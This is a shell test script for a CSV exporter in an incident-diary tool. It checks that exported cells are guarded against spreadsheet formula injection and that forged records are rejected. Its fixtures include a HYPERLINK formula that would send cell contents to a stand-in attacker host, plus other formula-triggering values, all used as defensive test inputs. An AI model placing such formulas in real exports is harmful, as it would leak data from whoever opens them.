#!/bin/sh
# ilog-csv: a spreadsheet in a police diary's columns that Python's csv
# module reads as ilog-json sees the incidents; no cell a spreadsheet would
# run as a formula; and ilog-import reads it back to the same incidents
. "$(dirname "$0")/lib.sh"

setup_store
pyyaml -c '' || echo "Bail out! python3 with PyYAML is needed"
command -v jq >/dev/null || echo "Bail out! jq is needed"
# rows FILE [COLUMN...]: the data rows as Python's csv module reads them,
# without the COLUMNs named, one repr a line
rows() {
	python3 -c '
import csv, sys
r = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
drop = [i for i, h in enumerate(r[0]) if h in sys.argv[2:]]
for row in r[1:]:
    print(repr([v for i, v in enumerate(row) if i not in drop]))' "$@"
}

ilog-add -w '2026-11-10 12:00' -s 'to be withdrawn' -b contact >/dev/null
FULL=$(ilog-add <<'EOF'
occurred: 2026-11-27T21:40:00+00:00
until: 2026-11-27T22:10:00+00:00
summary: Grey car parked opposite the house again
behaviour: [watching, loitering]
tags: [car, night]
location: Outside home, Elm Street
channel: in-person
details: |
  I saw the car from the bedroom window at 21:40.
  He sat in it with the lights off until 22:10.
suspect:
  name: Mark Ellison
  appearance: tall, beard
  clothing: dark hoodie
  voice: did not speak
vehicle:
  make: Vauxhall
  model: Corsa
  colour: grey
  plate: AB12 CDE
witnesses:
- name: Jane Doe
  contact: '07700 900123'
  saw: saw him standing at the gate
- name: Sam Lee
  contact: '0117 496 0000'
- saw: a neighbour who would not give a name
police:
  reported: 2026-11-28T09:00:00+00:00
  reference: NC-28112026-0123
  officer: PC 1234 Smith
impact: Could not sleep; changed my route to work.
noted: 2026-11-27T23:00:00+00:00
EOF
)
# Cells a spreadsheet would run as formulas, and ones that start with the
# guard itself; quotes, commas, line breaks (CRLF too), emoji, Hebrew.
EVIL=$(printf -- '%s\n' \
	'occurred: 2026-11-20T08:05:30-05:00' \
	'summary: "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")"' \
	"location: '+1'" \
	"details: \"-2\\r\\nsecond, line \\\"quoted\\\"\\n\\U0001F642 \\u05e9\\u05dc\\u05d5\\u05dd\"" \
	"impact: '@SUM(A1:A9)'" \
	"suspect: {name: \"'=already guarded\", appearance: \"\\ttab first\", clothing: \"\\rcr first\", voice: \"''two\"}" \
	"vehicle: {plate: '-AB12'}" | ilog-add)
ilog-add < "$TOP/tests/sample.yaml" >/dev/null
printf 'photo' > "$TMP/IMG_2041.jpg"
ilog-attach "$FULL" "$TMP/IMG_2041.jpg" >/dev/null
W=$(ilog-ls | xargs ilog-pick -g 'to be withdrawn')
ilog-withdraw -m 'entered twice' "$W" >/dev/null

ilog-ls -a > "$TMP/paths"
N=$(wc -l < "$TMP/paths" | tr -d ' ')
ilog-csv < "$TMP/paths" > "$TMP/log.csv" 2>"$TMP/err"
is "ilog-csv exits 0" "$?" 0
is "... says nothing on stderr" "$(cat "$TMP/err")" ""
is "the header: a police diary's columns, named as ilog(5) names them" \
	"$(head -n 1 "$TMP/log.csv")" \
	"$(printf 'date,time,until,behaviour,location,summary,details,said,witnesses.1.name,witnesses.1.contact,witnesses.1.saw,witnesses.2.name,witnesses.2.contact,witnesses.2.saw,witnesses.3.name,witnesses.3.contact,witnesses.3.saw,present,suspect.name,suspect.appearance,suspect.clothing,suspect.voice,identified,from,vehicle.make,vehicle.model,vehicle.colour,vehicle.plate,weapon,fear,police.reference,police.reported,police.officer,police.response,impact,tags,channel,noted,withdrawn,evidence.count,id\r')"

# Python's csv module reads it, and each row says what ilog-json says.
ilog-json < "$TMP/paths" > "$TMP/log.jsonl"
cat > "$TMP/check.py" <<'EOF'
import csv, json, sys
raw = open(sys.argv[1], 'rb').read()
raw.decode('utf-8')
rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8'),
                       strict=True))
head, rows = rows[0], rows[1:]
objs = [json.loads(l) for l in open(sys.argv[2], encoding='utf-8')]
assert len(rows) == len(objs) == int(sys.argv[3]), (len(rows), len(objs))
def unguard(v):
    return v[1:] if v[:1] == "'" and v[1:2] and v[1] in "=+-@\t\r'" else v
for row, o in zip(rows, objs):
    assert len(row) == len(head), row
    c = dict(zip(head, row))
    for v in row:
        assert v[:1] not in ('=', '+', '-', '@', '\t', '\r'), v
    occ = o['occurred']
    t = occ[11:16] + ('' if occ[16:19] == ':00' else occ[16:19]) + occ[19:]
    assert (c['date'], c['time']) == (occ[:10], t), (c['date'], c['time'])
    want = {'until': o.get('until', ''),
            'behaviour': ', '.join(o.get('behaviour', [])),
            'tags': ', '.join(o.get('tags', [])),
            'evidence.count': str(len(o.get('evidence', []))),
            'id': o['id']}
    for k in ('location', 'summary', 'details', 'impact', 'channel',
              'noted', 'withdrawn'):
        want[k] = o.get(k, '')
    for m in ('suspect', 'vehicle', 'police'):
        for k in [h[len(m) + 1:] for h in head if h.startswith(m + '.')]:
            want[m + '.' + k] = o.get(m, {}).get(k, '')
    ws = o.get('witnesses', [])
    for h in head:
        if h.startswith('witnesses.'):
            _, n, k = h.split('.')
            n = int(n)
            want[h] = ws[n - 1].get(k, '') if n <= len(ws) else ''
    for k, v in want.items():
        assert unguard(c[k]) == v, (k, c[k], v)
evil = [c for c in (dict(zip(head, r)) for r in rows)
        if c['location'] == "'+1"][0]
assert evil['summary'] == \
    '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")', evil['summary']
assert evil['details'].startswith("'-2\r\nsecond, line \"quoted\"\n\U0001F642")
assert evil['impact'] == "'@SUM(A1:A9)"
assert evil['vehicle.plate'] == "'-AB12"
assert evil['suspect.name'] == "''=already guarded"
assert evil['suspect.appearance'] == "'\ttab first"
assert evil['suspect.clothing'] == "'\rcr first"
assert evil['suspect.voice'] == "'''two"
assert evil['time'] == '08:05:30-05:00'
print('ok')
EOF
is "Python's csv module reads every row; each holds what ilog-json shows" \
	"$(python3 "$TMP/check.py" "$TMP/log.csv" "$TMP/log.jsonl" "$N" 2>&1)" ok
is "every row ends in CRLF, as RFC 4180 says" "$(python3 -c '
import csv, sys
raw = open(sys.argv[1], "rb").read()
r = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
inside = sum(v.count("\r\n") for row in r for v in row)
print(raw.endswith(b"\r\n") and raw.count(b"\r\n") == len(r) + inside)' \
	"$TMP/log.csv")" True
is "a witness cell holds one witness's name" \
	"$(ilog-csv "$FULL" | python3 -c 'import csv,sys; r=list(csv.DictReader(sys.stdin)); print(r[0]["witnesses.2.name"], "|", r[0]["witnesses.3.saw"], "|", r[0]["evidence.count"])')" \
	"Sam Lee | a neighbour who would not give a name | 1"
is "one incident with no witnesses: still one group of witness columns" \
	"$(ilog-csv "$W" | head -n 1 | tr ',' '\n' | grep -c '^witnesses\.')" 3

# ilog-import reads it back: the same incidents, in a store of their own.
B=$TMP/other
ilog-init -d "$B" "$FPR" 2>/dev/null
ILOG_DIR=$B ilog-import "$TMP/log.csv" > "$TMP/imported" 2>"$TMP/err"
is "ilog-import takes ilog-csv's output" "$?" 0
is "... one incident per row" "$(wc -l < "$TMP/imported" | tr -d ' ')" "$N"
strip='del(.id, .recorded, .prev, .path, .amendments, .source, .evidence)'
ilog-json < "$TMP/paths" | jq -c "$strip" > "$TMP/a.jsonl"
ILOG_DIR=$B ilog-ls -a | ILOG_DIR=$B ilog-json | jq -c "$strip" > "$TMP/b.jsonl"
is "... the same incidents, field for field (withdrawn too)" \
	"$(diff "$TMP/a.jsonl" "$TMP/b.jsonl" && echo same)" same
is "... the guards are undone: the formula is text again" \
	"$(ILOG_DIR=$B ilog-ls | ILOG_DIR=$B ilog-json | jq -r 'select(.location == "+1") | .summary, .suspect.name, .suspect.voice')" \
	"$(printf '%s\n' '=HYPERLINK("http://evil.example/?d="&A1,"Click")' "'=already guarded" "''two")"
is "... the withdrawn incident is withdrawn, with its reason" \
	"$(ILOG_DIR=$B ilog-ls | wc -l | tr -d ' ') $(ILOG_DIR=$B ilog-ls -a | ILOG_DIR=$B ilog-json | jq -r 'select(.withdrawn) | .withdrawn')" \
	"$((N - 1)) entered twice"
ILOG_DIR=$B ilog-import "$TMP/log.csv" > "$TMP/again" 2>&1
is "... importing it again adds nothing" \
	"$(ILOG_DIR=$B ilog-ls -a | wc -l | tr -d ' ')" "$N"
ILOG_DIR=$B ilog-ls -a | ILOG_DIR=$B ilog-csv > "$TMP/b.csv"
is "... and ilog-csv of the copy is the same but for IDs and evidence" \
	"$(rows "$TMP/b.csv" id evidence.count | md5sum)" \
	"$(rows "$TMP/log.csv" id evidence.count | md5sum)"

# A spreadsheet of the user's own: a ' that ilog-csv did not add is kept.
printf 'date,time,summary\r\n2026-11-01,10:00,'"'"'=1 is what he wrote\r\n' \
	> "$TMP/mine.csv"
C=$TMP/third
ilog-init -d "$C" "$FPR" 2>/dev/null
ILOG_DIR=$C ilog-import "$TMP/mine.csv" >/dev/null 2>&1
is "a CSV not written by ilog-csv keeps its leading '" \
	"$(ILOG_DIR=$C ilog-ls | ILOG_DIR=$C ilog-json | jq -r .summary)" \
	"'=1 is what he wrote"
printf 'summary,date,time,witnesses.101.name\r\nx,2026-11-01,10:00,y\r\n' \
	> "$TMP/many.csv"
ILOG_DIR=$C ilog-import "$TMP/many.csv" >/dev/null 2>"$TMP/err"
is "a column for a 101st witness is refused" "$?" 2
ok "... naming it" grep -q "unknown column 'witnesses.101.name'" "$TMP/err"

# Forged records are left out, named, and the exit status is 2.
U=$(id_after "$ILOG_DIR" unsg)
printf 'id: %s\nrecorded: %s\noccurred: 2026-11-03T10:00:00+00:00\nsummary: planted\n' \
	"$U" "$(id_time "$U")" | gpg --batch --quiet --yes --trust-model always \
	-e --throw-keyids -r "$FPR" -o "$ILOG_DIR/$U.yaml.gpg"
ilog-ls -a 2>/dev/null | ilog-csv > "$TMP/out2" 2>"$TMP/err"; rc=$?
is "a forged incident: exit 2" "$rc" 2
ok "... not in the spreadsheet" sh -c "! grep -q planted '$TMP/out2'"
is "... the genuine ones are" "$(rows "$TMP/out2" | wc -l | tr -d ' ')" "$N"
ok "... it is named on stderr" grep -q "$U.yaml.gpg: incident not signed" \
	"$TMP/err"
rm "$ILOG_DIR/$U.yaml.gpg"

out=$(ilog-csv 20200101T000000Z-none "$FULL" 2>"$TMP/err"); rc=$?
is "an operand that names nothing: exit 2" "$rc" 2
printf '%s\n' "$out" > "$TMP/out3"
is "... the header and the others printed" \
	"$(rows "$TMP/out3" | wc -l | tr -d ' ') $(head -c 5 "$TMP/out3")" "1 date,"
is "an empty stdin: the header only" "$(ilog-csv </dev/null | wc -l | tr -d ' ')" 1

# The man page's examples run.
sed -n 's/^\.Dl //p' "$TOP/man/ilog-csv.1" > "$TMP/examples"
cd "$TMP" || exit 1
while IFS= read -r cmd; do
	out=$(sh -c "$cmd" 2>&1 </dev/null); rc=$?
	ok "ilog-csv(1) example runs: $cmd" sh -c '[ "$1" -eq 0 ]' - "$rc"
done < "$TMP/examples"
ok "... there are some" [ -s "$TMP/examples" ]
done_testing
